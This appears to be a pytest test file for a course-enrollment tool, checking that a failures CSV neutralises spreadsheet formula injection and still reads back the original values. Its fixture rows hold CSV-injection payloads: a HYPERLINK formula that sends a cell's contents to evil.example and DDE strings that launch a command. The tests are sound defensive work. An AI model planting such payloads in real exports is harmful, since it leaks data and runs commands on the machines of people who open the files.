"""The failures CSV is opened in spreadsheets: no cell may start a formula there (OWASP "CSV
Injection": `=`, `+`, `-`, `@`, tab, CR). Fed back as a source, the file still reads as the
values the rows had."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from canvas_tui.engine.journal import Journal
from canvas_tui.engine.report import write_failures_csv
from canvas_tui.records import EnrollmentRecord, RowProblem
from canvas_tui.sources import CsvSource
from canvas_tui.sources.csv import FORMULA_START, neutralize_formula, restore_formula
from tests.helpers import write_rows

HEADER = ["course_id", "user_id", "role", "section_id", "status", "note"]
# Each row fails validation (its status is no status), so each lands in the failures CSV.
ROWS = [
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', "S1", "student", "", "=1+1", "n"],
    ["+44", "-cmd|' /C calc'!A0", "student", "", "bogus", "@SUM(1+1)*cmd|' /C calc'!A0"],
    ["C1", "\tS2", "student", "", "+x", "\r=2"],
    ["C1", "'=already quoted", "student", "", "-1", "''+two"],
]


@pytest.mark.parametrize(
    "value", ["=1", "+1", "-1", "@a", "\tx", "\rx", "'=1", "''@", "'", "plain", "O'Brien", ""]
)
def test_neutralize_then_restore_is_the_identity(value: str) -> None:
    safe = neutralize_formula(value)
    assert not safe.startswith(FORMULA_START)
    assert restore_formula(safe) == value


def test_failures_csv_has_no_formula_cells_and_reads_back(tmp_path: Path) -> None:
    source = write_rows(tmp_path / "in.csv", ROWS, HEADER)
    journal = Journal(tmp_path / "j.journal")
    try:
        journal.load(CsvSource(source), description=str(source))
        out = tmp_path / "failures.csv"
        assert write_failures_csv(journal, out) == len(ROWS)
    finally:
        journal.close()

    with out.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    dangerous = [c for c in cells if c.startswith(FORMULA_START)]
    assert dangerous == []  # today: every cell of ROWS that starts a formula is written raw

    items = list(CsvSource(out))
    assert all(isinstance(i, RowProblem | EnrollmentRecord) for i in items)
    read_back = [[i.provenance.raw[c] for c in HEADER] for i in items]
    assert read_back == ROWS
